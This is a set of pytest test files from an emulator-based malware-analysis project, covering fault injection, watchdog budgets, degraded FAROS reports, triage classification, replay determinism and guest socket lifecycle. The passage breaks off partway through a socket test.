        versions=st.lists(st.integers(1, 1000), min_size=1, max_size=10, unique=True),
    )
    @settings(max_examples=25, deadline=None)
    def test_file_versions_distinct(self, name, versions):
        store = TagStore()
        tags = {store.file_tag(name, v) for v in versions}
        assert len(tags) == len(versions)


class TestDescribeTotality:
    @given(
        kind=st.sampled_from(["netflow", "process", "file", "export", "anon"]),
        n=st.integers(0, 30),
    )
    @settings(max_examples=50, deadline=None)
    def test_describe_never_fails_for_minted_tags(self, kind, n):
        store = TagStore()
        if kind == "netflow":
            tag = store.netflow_tag("1.1.1.1", n, "2.2.2.2", n + 1)
        elif kind == "process":
            tag = store.process_tag(n)
        elif kind == "file":
            tag = store.file_tag(f"f{n}", n + 1)
        elif kind == "export":
            tag = store.export_table_tag(f"Api{n}")
        else:
            tag = store.export_table_tag()
        text = store.describe(tag)
        assert isinstance(text, str) and text
