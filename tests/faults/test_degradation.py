"""Graceful degradation end to end: machine backstop -> degraded FAROS
report -> triage classification -> timeout diagnostics."""

import dataclasses

import pytest

from repro.analysis.chaos import FAULT_SPECS, smoke_violations
from repro.analysis.triage import (
    STATUS_DEGRADED,
    STATUS_ERROR,
    STATUS_OK,
    TriageJob,
    TriageResult,
    execute_job,
    run_triage,
)
from repro.emulator.machine import Machine, MachineConfig, MachineResult, RunStats
from repro.emulator.plugins import Plugin
from repro.emulator.record_replay import (
    Recording,
    ReplayDivergence,
    Scenario,
    record,
    replay,
)
from repro.faros import Faros
from repro.faults.errors import (
    CLASS_DEGRADED,
    CLASS_RETRYABLE,
    FaultRecord,
    TaintBudgetExceeded,
)
from repro.faults.plan import InjectedMachineFault

from tests.conftest import register_asm, spawn_asm

SPIN = """
start:
    movi r7, 0
loop:
    addi r7, r7, 1
    jmp loop
"""


def _spin_scenario(max_instructions=5_000, events=()):
    def setup(machine):
        register_asm(machine, "spin.exe", SPIN)
        machine.kernel.spawn("spin.exe")

    return Scenario(
        name="spin", setup=setup, events=tuple(events),
        max_instructions=max_instructions,
    )


class _FaultWitness(Plugin):
    """Records every on_machine_fault dispatch it sees."""

    name = "fault-witness"

    def __init__(self):
        super().__init__()
        self.records = []

    def on_machine_fault(self, machine, record):
        self.records.append(record)


class TestMachineBackstop:
    def test_result_alias_is_run_stats(self):
        # The degradation contract speaks of MachineResult; it is the
        # same object RunStats always was.
        assert MachineResult is RunStats

    def test_injected_fault_degrades_the_run(self, machine):
        spawn_asm(machine, "spin.exe", SPIN)
        machine.schedule(1_000, InjectedMachineFault("DeviceFault", "chaos"))
        stats = machine.run(max_instructions=50_000)
        assert stats.stop_reason == "fault"
        assert stats.fault.kind == "DeviceFault"
        assert stats.fault.injected is True
        assert stats.fault.classification == CLASS_DEGRADED
        assert machine.fault is stats.fault
        assert stats.fault in machine.fault_records

    def test_fault_hook_fires_for_terminal_faults(self, machine):
        witness = machine.plugins.register(_FaultWitness())
        spawn_asm(machine, "spin.exe", SPIN)
        machine.schedule(500, InjectedMachineFault("InjectedFault", "boom"))
        machine.run(max_instructions=10_000)
        assert [r.kind for r in witness.records] == ["InjectedFault"]
        assert witness.records[0] is machine.fault

    def test_clean_run_records_no_fault(self, machine):
        spawn_asm(machine, "spin.exe", SPIN)
        stats = machine.run(max_instructions=2_000)
        assert stats.fault is None and machine.fault is None


class TestDegradedReport:
    def _faulted_faros_run(self):
        scenario = _spin_scenario(
            max_instructions=10_000,
            events=[(1_000, InjectedMachineFault("DeviceFault", "mid-run chaos"))],
        )
        faros = Faros()
        machine = scenario.run(plugins=[faros])
        return faros, machine

    def test_report_carries_the_fault(self):
        faros, machine = self._faulted_faros_run()
        assert faros.fault_record is machine.fault
        report = faros.report()
        assert report.degraded is True
        assert report.fault["kind"] == "DeviceFault"
        assert report.fault["classification"] == CLASS_DEGRADED
        d = report.to_json_dict()
        assert d["degraded"] is True and d["fault"]["injected"] is True

    def test_degraded_banner_leads_the_rendering(self):
        faros, _ = self._faulted_faros_run()
        text = faros.report().render()
        header, banner = text.splitlines()[:2]
        assert header == "=== FAROS analysis report ==="
        assert banner.startswith("DEGRADED RUN: DeviceFault: ")
        assert "completed prefix" in banner

    def test_fault_lands_on_the_timeline(self):
        faros, _ = self._faulted_faros_run()
        assert any(
            ev.kind == "fault" and "DeviceFault" in ev.description
            for ev in faros.timeline
        )

    def test_clean_run_is_not_degraded(self):
        faros = Faros()
        _spin_scenario().run(plugins=[faros])
        report = faros.report()
        assert report.degraded is False
        assert report.to_json_dict()["fault"] is None


class TestTriageClassification:
    def _chaos_job(self, attack, fault_name):
        spec = FAULT_SPECS[fault_name]
        return TriageJob(
            job_id=0, name=f"{attack}+{fault_name}", kind="chaos",
            params={"attack": attack, "plan": spec.plan.to_json_dict(),
                    "fault_name": fault_name},
        )

    def test_deterministic_fault_degrades_the_row(self):
        result = execute_job(self._chaos_job("reflective_dll_inject", "syscall-fault"))
        assert result.status == STATUS_DEGRADED
        assert result.degraded is True
        assert result.fault["kind"] == "DeviceFault"
        assert result.fault["injected"] is True
        assert result.fault["classification"] == CLASS_DEGRADED
        assert result.error is None  # degraded, not errored

    def test_result_round_trips_with_fault(self):
        result = execute_job(self._chaos_job("reflective_dll_inject", "syscall-fault"))
        back = TriageResult.from_json_dict(result.to_json_dict())
        assert back.status == STATUS_DEGRADED
        assert back.fault == result.fault

    def test_boot_time_fault_still_degrades(self):
        # Taint budgets trip during scenario build (export-table tags at
        # guest boot), *outside* machine.run's backstop; the chaos job
        # must still convert them instead of erroring.
        result = execute_job(self._chaos_job("reflective_dll_inject", "taint-budget"))
        assert result.status == STATUS_DEGRADED
        assert result.fault["kind"] == "TaintBudgetExceeded"


class TestSmokeViolations:
    def _row(self, status, fault=None, fault_name="syscall-fault", error=None):
        return TriageResult(
            job_id=0, name=f"attack+{fault_name}", kind="chaos", status=status,
            verdict=False, error=error, fault=fault,
            extra={"attack": "attack", "fault_name": fault_name},
        )

    def test_clean_degraded_row_passes(self):
        row = self._row(STATUS_DEGRADED, fault={"kind": "DeviceFault", "detail": "x"})
        assert smoke_violations([row]) == []

    def test_error_row_is_a_violation(self):
        [violation] = smoke_violations([self._row(STATUS_ERROR, error="boom")])
        assert "ERROR" in violation

    def test_degraded_without_record_is_a_violation(self):
        [violation] = smoke_violations([self._row(STATUS_DEGRADED, fault={})])
        assert "without a fault record" in violation

    def test_ok_under_always_firing_spec_is_a_violation(self):
        [violation] = smoke_violations([self._row(STATUS_OK)])
        assert "should fire" in violation

    def test_ok_under_shape_dependent_spec_passes(self):
        # Packet rules cannot fire on keystroke-driven attacks; OK is fine.
        assert smoke_violations([self._row(STATUS_OK, fault_name="packet-corrupt")]) == []


def _pyfunc_job(job_id, target, name=None):
    return TriageJob(
        job_id=job_id, name=name or target, kind="pyfunc",
        params={"target": f"tests.analysis.triage_fault_jobs:{target}", "kwargs": {}},
    )


class TestHostFaultRecords:
    def test_timeout_record_carries_guest_position(self):
        # Satellite contract: when the pool kills a wedged worker, the
        # ERROR row's fault record reports where the *guest* was -- the
        # watchdog's shared-progress channel read after the SIGKILL.
        jobs = [_pyfunc_job(0, "spinning_machine_job")]
        [result] = run_triage(jobs, jobs=2, timeout=2.0)
        assert result.status == STATUS_ERROR
        assert result.fault["kind"] == "Timeout"
        assert result.fault["classification"] == CLASS_RETRYABLE
        assert result.fault["tick"] > 0
        assert result.fault["pc"] is not None
        record = FaultRecord.from_json_dict(result.fault)
        assert record.retryable is True

    def test_worker_crash_record_is_retryable(self):
        jobs = [_pyfunc_job(0, "selfkill_job")]
        [result] = run_triage(jobs, jobs=2, max_retries=1)
        assert result.status == STATUS_ERROR
        assert result.fault["kind"] == "WorkerCrash"
        assert result.fault["classification"] == CLASS_RETRYABLE
        assert result.attempts == 2  # host-transient kinds are retried

    def test_host_exception_is_not_degraded(self):
        # A genuine harness bug stays an ERROR (host fault), never a
        # deterministic sample degradation.
        jobs = [_pyfunc_job(0, "raising_job")]
        [result] = run_triage(jobs, jobs=1)
        assert result.status == STATUS_ERROR
        assert result.attempts == 1


class _TaintBomb(Plugin):
    """Replay-only fault source: blows the taint budget at a fixed tick."""

    name = "taint-bomb"

    def __init__(self, at):
        super().__init__()
        self.at = at

    def on_syscall_enter(self, machine, thread, number, args):
        if machine.now >= self.at:
            raise TaintBudgetExceeded("tainted bytes", 1_000, 10)


class TestPrefixReplay:
    def _recording(self):
        def setup(machine):
            register_asm(
                machine, "svc.exe",
                "start:\nmovi r1, 10\nmovi r0, SYS_SLEEP\nsyscall\njmp start",
            )
            machine.kernel.spawn("svc.exe")

        return record(Scenario(name="svc", setup=setup, max_instructions=20_000))

    def test_replay_only_fault_verifies_as_prefix(self):
        # Analysis-side budgets exist only when the plugin is attached,
        # so the replay legitimately stops before the recording did; the
        # verifier accepts any faithful *prefix* of the recorded journal.
        recording = self._recording()
        assert recording.stats.fault is None
        machine = replay(recording, plugins=[_TaintBomb(at=5_000)])
        assert machine.fault is not None
        assert machine.fault.kind == "TaintBudgetExceeded"
        assert machine.now < recording.final_instret

    def test_replay_past_a_faulted_recording_diverges(self):
        recording = self._recording()
        truncated = Recording(
            scenario=recording.scenario,
            journal=list(recording.journal),
            final_instret=recording.final_instret // 2,
            stats=dataclasses.replace(
                recording.stats,
                fault=FaultRecord(kind="InjectedFault", detail="claimed early stop"),
            ),
        )
        with pytest.raises(ReplayDivergence, match="past the recording"):
            replay(truncated)

    def test_unfaulted_replay_still_requires_exact_match(self):
        recording = self._recording()
        shortened = Recording(
            scenario=recording.scenario,
            journal=list(recording.journal),
            final_instret=recording.final_instret - 1,
            stats=recording.stats,  # no fault: strict verification
        )
        with pytest.raises(ReplayDivergence, match="retired"):
            replay(shortened)
