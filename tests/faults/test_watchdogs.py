"""In-guest watchdogs: instruction budget, runaway-loop containment,
taint budgets, and the shared progress sink they publish through."""

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.faults.errors import TaintBudgetExceeded
from repro.faults.watchdog import (
    SharedProgressSink,
    progress_sink,
    read_progress,
    set_progress_sink,
)
from repro.taint.intern import GLOBAL_INTERNER
from repro.taint.policy import TaintPolicy
from repro.taint.tags import Tag, TagType
from repro.taint.tracker import TaintTracker

from tests.conftest import spawn_asm

SPIN = """
start:
    movi r7, 0
loop:
    addi r7, r7, 1
    jmp loop
"""

#: A well-behaved service: a few instructions, then back into the kernel.
SLEEP_LOOP = """
start:
    movi r1, 10
    movi r0, SYS_SLEEP
    syscall
    jmp start
"""


class TestInstructionBudget:
    def test_spinner_trips_the_watchdog(self):
        machine = Machine(MachineConfig(instruction_budget=1_000))
        spawn_asm(machine, "spin.exe", SPIN)
        stats = machine.run(max_instructions=50_000)
        assert stats.stop_reason == "fault"
        assert stats.fault is not None and stats.fault.kind == "WatchdogExpired"
        assert "instruction" in stats.fault.detail
        assert machine.fault is stats.fault
        # The watchdog fires at a slice boundary just past the budget,
        # never anywhere near the graceful max_instructions stop.
        assert 1_000 <= machine.now < 2_000

    def test_short_run_stays_under_budget(self):
        machine = Machine(MachineConfig(instruction_budget=100_000))
        spawn_asm(machine, "spin.exe", SPIN)
        stats = machine.run(max_instructions=5_000)
        assert stats.stop_reason == "budget"
        assert stats.fault is None

    def test_budget_fault_names_the_running_process(self):
        machine = Machine(MachineConfig(instruction_budget=1_000))
        spawn_asm(machine, "spin.exe", SPIN)
        stats = machine.run(max_instructions=50_000)
        assert stats.fault.process == "spin.exe"
        assert stats.fault.tick == machine.now


class TestSyscallStepBudget:
    def test_runaway_loop_is_declared(self):
        machine = Machine(MachineConfig(syscall_step_budget=500))
        spawn_asm(machine, "spin.exe", SPIN)
        stats = machine.run(max_instructions=50_000)
        assert stats.stop_reason == "fault"
        assert stats.fault.kind == "WatchdogExpired"
        assert "without a syscall" in stats.fault.detail
        assert machine.now < 50_000  # cut short, not a graceful stop

    def test_syscall_heavy_guest_survives(self):
        machine = Machine(MachineConfig(syscall_step_budget=500))
        spawn_asm(machine, "svc.exe", SLEEP_LOOP)
        stats = machine.run(max_instructions=20_000)
        assert stats.stop_reason != "fault"
        assert stats.fault is None


class TestTaintBudgets:
    def _paddrs(self, n):
        return list(range(0x1000, 0x1000 + n))

    def test_tainted_bytes_cap_trips(self):
        tracker = TaintTracker(policy=TaintPolicy(max_tainted_bytes=4))
        with pytest.raises(TaintBudgetExceeded) as exc:
            tracker.pipeline.taint(self._paddrs(8), Tag(TagType.NETFLOW, 1))
        assert exc.value.resource == "tainted bytes"
        assert exc.value.used == 8 and exc.value.budget == 4

    def test_under_cap_is_silent(self):
        tracker = TaintTracker(policy=TaintPolicy(max_tainted_bytes=8))
        tracker.pipeline.taint(self._paddrs(8), Tag(TagType.NETFLOW, 1))
        assert tracker.shadow.tainted_bytes == 8

    def test_prov_node_cap_uses_a_private_interner(self):
        # The process-wide interner accumulates canonical nodes across
        # runs; a budget measured against it would trip at a different
        # point every run.  A budgeted tracker must therefore get its
        # own interner automatically.
        tracker = TaintTracker(policy=TaintPolicy(max_prov_nodes=100))
        assert tracker.interner is not GLOBAL_INTERNER
        unbudgeted = TaintTracker(policy=TaintPolicy())
        assert unbudgeted.interner is GLOBAL_INTERNER

    def test_no_budget_means_no_checks(self):
        tracker = TaintTracker(policy=TaintPolicy())
        tracker.pipeline.taint(self._paddrs(64), Tag(TagType.NETFLOW, 1))
        assert tracker.shadow.tainted_bytes == 64


class TestProgressSink:
    @pytest.fixture(autouse=True)
    def _restore_sink(self):
        yield
        set_progress_sink(None)

    def test_update_and_read_round_trip(self, machine):
        array = [0] * 4
        sink = SharedProgressSink(array)
        sink.reset()
        assert read_progress(array) is None  # nothing published yet
        spawn_asm(machine, "spin.exe", SPIN)
        machine.run(max_instructions=500)
        sink.update(machine)
        progress = read_progress(array)
        assert progress == {
            "tick": machine.now,
            "pc": machine.cpu.pc,
            "syscall": machine.last_syscall,
        }

    def test_reset_marks_stale(self):
        array = [0] * 4
        sink = SharedProgressSink(array)
        array[:] = [10, 20, 3, 1]
        assert read_progress(array) is not None
        sink.reset()
        assert read_progress(array) is None

    def test_machine_publishes_every_slice_when_installed(self):
        array = [0] * 4
        set_progress_sink(SharedProgressSink(array))
        assert progress_sink() is not None
        machine = Machine(MachineConfig())
        spawn_asm(machine, "spin.exe", SPIN)
        machine.run(max_instructions=1_000)
        progress = read_progress(array)
        assert progress is not None
        assert progress["tick"] == machine.now

    def test_negative_syscall_slot_decodes_to_none(self):
        assert read_progress([50, 60, -1, 1]) == {
            "tick": 50, "pc": 60, "syscall": None,
        }
