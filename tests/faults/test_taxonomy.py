"""The structured fault taxonomy: hierarchy, records, classification."""

import pytest
from hypothesis import given, strategies as st

from repro.faults.errors import (
    CLASS_DEGRADED,
    CLASS_RETRYABLE,
    DeviceFault,
    EmulatorFault,
    FAULT_CLASSIFICATION,
    FaultMarker,
    FaultRecord,
    GuestResourceExhausted,
    InjectedFault,
    TaintBudgetExceeded,
    WatchdogExpired,
    classify_fault_kind,
)
from repro.faults.plan import build_fault


class TestHierarchy:
    def test_every_kind_derives_from_emulator_fault(self):
        for exc in (
            DeviceFault("nic-dma", "overflow"),
            GuestResourceExhausted("frames", "none left"),
            WatchdogExpired("instruction", 100),
            TaintBudgetExceeded("tainted bytes", 9, 8),
            InjectedFault("chaos"),
        ):
            assert isinstance(exc, EmulatorFault)

    def test_device_fault_is_not_a_host_error(self):
        # The pre-taxonomy code raised MemoryError for DMA overflows and
        # ValueError for phys-copy length mismatches; that conflation
        # with host bugs is exactly what the taxonomy removes.
        exc = DeviceFault("nic-dma", "packet too large")
        assert not isinstance(exc, (MemoryError, ValueError))
        assert str(exc) == "nic-dma: packet too large"

    def test_resource_exhaustion_is_still_a_memory_error(self):
        # Dual parentage: kernel `except MemoryError -> ERR` sites keep
        # working, while escapes land in the machine's fault backstop.
        exc = GuestResourceExhausted("physical frames", "pool empty")
        assert isinstance(exc, MemoryError)
        assert isinstance(exc, EmulatorFault)
        assert str(exc) == "physical frames exhausted: pool empty"

    def test_watchdog_message_includes_budget_and_detail(self):
        assert str(WatchdogExpired("instruction", 500)) == (
            "instruction watchdog expired (budget 500)"
        )
        assert str(WatchdogExpired("syscall-steps", 9, "runaway")).endswith(
            ": runaway"
        )

    def test_taint_budget_message_names_usage_and_cap(self):
        exc = TaintBudgetExceeded("tainted bytes", 600, 512)
        assert str(exc) == "taint budget exceeded: 600 tainted bytes > cap 512"

    def test_injected_flag_defaults(self):
        assert DeviceFault("d", "x").injected is False
        assert InjectedFault("x").injected is True

    def test_build_fault_marks_every_kind_injected(self):
        for kind in (
            "DeviceFault",
            "GuestResourceExhausted",
            "WatchdogExpired",
            "TaintBudgetExceeded",
            "InjectedFault",
            "SomethingUnknown",
        ):
            fault = build_fault(kind, "planted")
            assert isinstance(fault, EmulatorFault)
            assert fault.injected is True

    def test_fault_marker_is_inert_with_stable_repr(self):
        marker = FaultMarker("syscall 3 overridden")
        assert repr(marker) == "FaultMarker('syscall 3 overridden')"
        marker.deliver(machine=None)  # must not touch the machine


class TestFaultRecord:
    def test_json_round_trip(self):
        record = FaultRecord(
            kind="DeviceFault",
            detail="nic-dma: overflow",
            tick=1234,
            pc=0x40010,
            pid=101,
            process="dropper.exe",
            syscall=7,
            injected=True,
        )
        d = record.to_json_dict()
        assert d["classification"] == CLASS_DEGRADED  # derived, not stored
        assert FaultRecord.from_json_dict(d) == record

    def test_describe_names_location_and_injection(self):
        record = FaultRecord(
            kind="WatchdogExpired", detail="boom", tick=5, pc=0x10,
            process="a.exe", syscall=3, injected=True,
        )
        text = record.describe()
        assert text.startswith("injected WatchdogExpired: boom")
        for fragment in ("tick=5", "pc=0x10", "process=a.exe", "syscall=3"):
            assert fragment in text
        # A bare record has no location suffix at all.
        assert FaultRecord(kind="Timeout", detail="x").describe() == "Timeout: x"

    def test_from_exception_without_machine(self):
        record = FaultRecord.from_exception(InjectedFault("chaos"))
        assert record.kind == "InjectedFault"
        assert record.detail == "chaos"
        assert record.injected is True
        assert record.tick is None and record.pc is None

    def test_from_exception_reads_machine_state(self, machine):
        record = FaultRecord.from_exception(DeviceFault("d", "x"), machine)
        assert record.tick == machine.now
        assert record.pc == machine.cpu.pc
        assert record.pid is None  # no thread was running
        assert record.injected is False

    def test_retryable_property_matches_classification(self):
        assert FaultRecord(kind="Timeout", detail="x").retryable is True
        assert FaultRecord(kind="DeviceFault", detail="x").retryable is False


class TestClassification:
    def test_known_taxonomy_split(self):
        assert classify_fault_kind("WatchdogExpired") == CLASS_DEGRADED
        assert classify_fault_kind("TaintBudgetExceeded") == CLASS_DEGRADED
        assert classify_fault_kind("WorkerCrash") == CLASS_RETRYABLE
        assert classify_fault_kind("Timeout") == CLASS_RETRYABLE

    def test_every_emulator_fault_kind_is_degraded(self):
        # Anything a sample can deterministically provoke must never be
        # retried: a retry would reproduce it and waste a worker slot.
        for cls in (
            EmulatorFault, DeviceFault, GuestResourceExhausted,
            WatchdogExpired, TaintBudgetExceeded, InjectedFault,
        ):
            assert classify_fault_kind(cls.__name__) == CLASS_DEGRADED

    @given(st.sampled_from(sorted(FAULT_CLASSIFICATION)))
    def test_known_kinds_land_in_exactly_one_class(self, kind):
        classification = classify_fault_kind(kind)
        assert classification in (CLASS_DEGRADED, CLASS_RETRYABLE)
        assert (classification == CLASS_DEGRADED) != (
            classification == CLASS_RETRYABLE
        )
        assert FaultRecord(kind=kind, detail="").classification == classification

    @given(st.text(max_size=40))
    def test_classification_is_total_over_arbitrary_kinds(self, kind):
        # Unknown kinds are host-transient by assumption: only the
        # taxonomy is known to be deterministic, so everything else is
        # worth one more attempt.
        classification = classify_fault_kind(kind)
        assert classification in (CLASS_DEGRADED, CLASS_RETRYABLE)
        if kind not in FAULT_CLASSIFICATION:
            assert classification == CLASS_RETRYABLE
