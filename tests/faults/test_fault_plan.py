"""The deterministic fault-injection engine: rule validation, scenario
rewriting, and the replay-determinism contract for faulted runs."""

import dataclasses

import pytest

from repro.emulator.devices import Packet
from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.record_replay import (
    PacketEvent,
    Scenario,
    record,
    replay,
)
from repro.faults.plan import (
    FaultPlan,
    FaultRule,
    InjectedMachineFault,
    InjectedPacketNote,
    SyscallFaultInjector,
    _mutate_packet,
)

from tests.conftest import register_asm

SPIN = """
start:
    movi r7, 0
loop:
    addi r7, r7, 1
    jmp loop
"""


def _packet(payload=b"\x01\x02\x03\x04"):
    return Packet("10.0.0.1", 4444, "169.254.57.168", 8080, payload)


def _scenario(events=(), max_instructions=5_000):
    def setup(machine):
        register_asm(machine, "spin.exe", SPIN)
        machine.kernel.spawn("spin.exe")

    return Scenario(
        name="plan-test", setup=setup, events=tuple(events),
        max_instructions=max_instructions,
    )


class TestRuleValidation:
    def test_unknown_trigger_rejected(self):
        with pytest.raises(ValueError, match="unknown trigger"):
            FaultRule("wallclock", 1)

    def test_unknown_action_rejected(self):
        with pytest.raises(ValueError, match="unknown action"):
            FaultRule("packet", 1, "mangle")

    def test_describe_is_stable(self):
        rule = FaultRule("syscall", 3, "error", syscall=7)
        assert rule.describe() == "syscall@3 sys=7 error"


class TestSerialization:
    def test_rule_round_trip(self):
        rule = FaultRule(
            "instret", 1500, "fault", fault_kind="DeviceFault",
            detail="injected DMA ring failure", arg=0x55,
        )
        assert FaultRule.from_json_dict(rule.to_json_dict()) == rule

    def test_plan_round_trip(self):
        plan = FaultPlan(
            rules=(FaultRule("packet", 1, "corrupt"), FaultRule("syscall", 3, "error")),
            instruction_budget=1_200,
            syscall_step_budget=150,
            max_tainted_bytes=512,
            max_prov_nodes=4_000,
        )
        assert FaultPlan.from_json_dict(plan.to_json_dict()) == plan

    def test_empty_plan_round_trip(self):
        assert FaultPlan.from_json_dict(FaultPlan().to_json_dict()) == FaultPlan()


class TestPacketMutation:
    def test_corrupt_xors_payload(self):
        mutated = _mutate_packet(_packet(b"\x00\xff\x0f"), FaultRule("packet", 1, "corrupt", arg=0xFF))
        assert mutated.payload == b"\xff\x00\xf0"

    def test_truncate_keeps_leading_bytes(self):
        mutated = _mutate_packet(_packet(b"abcdefgh"), FaultRule("packet", 1, "truncate", arg=3))
        assert mutated.payload == b"abc"

    def test_mutation_preserves_flow_endpoints(self):
        original = _packet()
        mutated = _mutate_packet(original, FaultRule("packet", 1, "corrupt"))
        assert (mutated.src_ip, mutated.src_port, mutated.dst_ip, mutated.dst_port) == (
            original.src_ip, original.src_port, original.dst_ip, original.dst_port,
        )


class TestApply:
    def test_corrupt_rewrites_targeted_packet_only(self):
        scenario = _scenario([
            (100, PacketEvent(_packet(b"first"))),
            (200, PacketEvent(_packet(b"second"))),
        ])
        applied = FaultPlan(rules=(FaultRule("packet", 2, "corrupt", arg=0xFF),)).apply(scenario)
        assert applied.name == "plan-test+faults"
        kinds = [type(ev).__name__ for _, ev in applied.events]
        assert kinds == ["PacketEvent", "InjectedPacketNote", "PacketEvent"]
        assert applied.events[0][1].packet.payload == b"first"  # untouched
        assert applied.events[2][1].packet.payload == bytes(
            b ^ 0xFF for b in b"second"
        )

    def test_drop_removes_packet_but_keeps_the_note(self):
        scenario = _scenario([(100, PacketEvent(_packet()))])
        applied = FaultPlan(rules=(FaultRule("packet", 1, "drop"),)).apply(scenario)
        [(at, note)] = applied.events
        assert at == 100 and isinstance(note, InjectedPacketNote)
        assert "drop" in note.note

    def test_instret_rule_appends_armed_fault(self):
        applied = FaultPlan(
            rules=(FaultRule("instret", 1_500, "fault", fault_kind="DeviceFault"),)
        ).apply(_scenario())
        [(at, ev)] = applied.events
        assert at == 1_500 and isinstance(ev, InjectedMachineFault)
        assert ev.kind == "DeviceFault"

    def test_budgets_fold_into_machine_config(self):
        applied = FaultPlan(instruction_budget=1_200, syscall_step_budget=150).apply(
            _scenario()
        )
        assert applied.config.instruction_budget == 1_200
        assert applied.config.syscall_step_budget == 150
        # The original scenario is untouched (plans are rewrites).
        assert _scenario().config is None

    def test_syscall_rules_register_the_injector_at_build(self):
        applied = FaultPlan(rules=(FaultRule("syscall", 3, "error"),)).apply(_scenario())
        machine = applied.build()
        injectors = [
            p for p in machine.plugins.plugins if isinstance(p, SyscallFaultInjector)
        ]
        assert len(injectors) == 1

    def test_plan_without_syscall_rules_adds_no_injector(self):
        machine = FaultPlan().apply(_scenario()).build()
        assert not any(
            isinstance(p, SyscallFaultInjector) for p in machine.plugins.plugins
        )

    def test_taint_policy_passthrough_when_unbudgeted(self):
        assert FaultPlan().taint_policy() is None

    def test_taint_policy_carries_budgets(self):
        policy = FaultPlan(max_tainted_bytes=512, max_prov_nodes=9).taint_policy()
        assert policy.max_tainted_bytes == 512
        assert policy.max_prov_nodes == 9
        assert policy.has_taint_budget


class TestReplayDeterminism:
    """The tentpole property: faulted runs replay bit-identically."""

    def _faulted_plan(self):
        return FaultPlan(
            rules=(
                FaultRule("packet", 1, "corrupt", arg=0x55),
                FaultRule("instret", 2_000, "fault", fault_kind="DeviceFault",
                          detail="injected mid-run"),
            )
        )

    def _faulted_scenario(self):
        return self._faulted_plan().apply(
            _scenario([(500, PacketEvent(_packet(b"payload")))], max_instructions=10_000)
        )

    def test_recording_twice_is_bit_identical(self):
        first, second = record(self._faulted_scenario()), record(self._faulted_scenario())
        assert first.final_instret == second.final_instret
        assert [(at, repr(ev)) for at, ev in first.journal] == [
            (at, repr(ev)) for at, ev in second.journal
        ]
        assert first.stats.fault == second.stats.fault

    def test_faulted_recording_replays_cleanly(self):
        recording = record(self._faulted_scenario())
        assert recording.stats.fault is not None
        machine = replay(recording)  # verify=True: raises on divergence
        assert machine.fault is not None
        assert machine.fault.kind == recording.stats.fault.kind
        assert machine.now == recording.final_instret

    def test_injection_points_are_journaled(self):
        recording = record(self._faulted_scenario())
        reprs = [repr(ev) for _, ev in recording.journal]
        assert any(r.startswith("InjectedPacketNote") for r in reprs)
        assert any(r.startswith("InjectedMachineFault") for r in reprs)

    def test_syscall_injection_is_deterministic_across_runs(self):
        # Syscall triggers count dynamically; determinism holds because
        # the syscall stream itself is deterministic.
        plan = FaultPlan(rules=(FaultRule("syscall", 2, "fault",
                                          fault_kind="GuestResourceExhausted"),))

        def scenario():
            def setup(machine):
                register_asm(
                    machine, "svc.exe",
                    "start:\nmovi r1, 10\nmovi r0, SYS_SLEEP\nsyscall\njmp start",
                )
                machine.kernel.spawn("svc.exe")

            return plan.apply(Scenario(name="svc", setup=setup, max_instructions=5_000))

        first, second = record(scenario()), record(scenario())
        assert first.stats.fault is not None
        assert first.stats.fault == second.stats.fault
        assert first.final_instret == second.final_instret
