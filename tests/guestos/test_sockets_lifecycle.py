"""Socket lifecycle edge cases through the syscall interface."""

import pytest

from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent
from repro.guestos.syscalls import ERR

from tests.conftest import spawn_asm

REMOTE = "9.9.9.9"


class TestSocketLifecycle:
    def test_recv_after_close_fails(self, machine):
        proc = spawn_asm(
            machine,
            "t.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, ip
                movi r3, 80
                movi r0, SYS_CONNECT
                syscall
                mov r1, r7
                movi r0, SYS_CLOSE
                syscall
                mov r1, r7
                movi r2, buf
                movi r3, 4
                movi r0, SYS_RECV
                syscall
                mov r1, r0
                movi r0, SYS_EXIT
                syscall
            ip: .asciz "9.9.9.9"
            buf: .space 4
            """,
        )
        machine.run()
        assert proc.exit_code == ERR

    def test_packet_to_closed_socket_dropped(self, machine):
        spawn_asm(
            machine,
            "t.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, ip
                movi r3, 80
                movi r0, SYS_CONNECT
                syscall
                mov r1, r7
                movi r0, SYS_CLOSE
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            ip: .asciz "9.9.9.9"
            """,
        )
        machine.schedule(
            30_000, PacketEvent(Packet(REMOTE, 80, machine.devices.nic.ip, 49152, b"x"))
        )
        machine.run()  # must not crash; flow not recorded
        assert machine.kernel.netstack.seen_flows == []

    def test_accept_queue_handles_multiple_clients(self, machine):
        proc = spawn_asm(
            machine,
            "server.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, 7777
                movi r0, SYS_LISTEN
                syscall
                movi r6, 0          ; accepted connections
            again:
                mov r1, r7
                movi r0, SYS_ACCEPT
                syscall
                addi r6, r6, 1
                cmpi r6, 3
                jnz again
                mov r1, r6
                movi r0, SYS_EXIT
                syscall
            """,
        )
        for i in range(3):
            machine.schedule(
                5_000 + i * 1_000,
                PacketEvent(
                    Packet(REMOTE, 6000 + i, machine.devices.nic.ip, 7777, b"syn")
                ),
            )
        machine.run()
        assert proc.exit_code == 3

    def test_each_accepted_connection_is_isolated(self, machine):
        """Two clients' data must arrive on their own accepted sockets."""
        proc = spawn_asm(
            machine,
            "server.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, 7777
                movi r0, SYS_LISTEN
                syscall
                ; accept A, read one byte
                mov r1, r7
                movi r0, SYS_ACCEPT
                syscall
                mov r6, r0
                mov r1, r6
                movi r2, bufa
                movi r3, 1
                movi r0, SYS_RECV
                syscall
                ; accept B, read one byte
                mov r1, r7
                movi r0, SYS_ACCEPT
                syscall
                mov r6, r0
                mov r1, r6
                movi r2, bufb
                movi r3, 1
                movi r0, SYS_RECV
                syscall
                ; exit with A<<8 | B
                ldb r1, [r4+bufa]      ; r4 = 0
                shli r1, r1, 8
                ldb r2, [r4+bufb]
                or r1, r1, r2
                movi r0, SYS_EXIT
                syscall
            bufa: .byte 0
            bufb: .byte 0
            """,
        )
        machine.schedule(
            5_000, PacketEvent(Packet(REMOTE, 6000, machine.devices.nic.ip, 7777, b"A"))
        )
        machine.schedule(
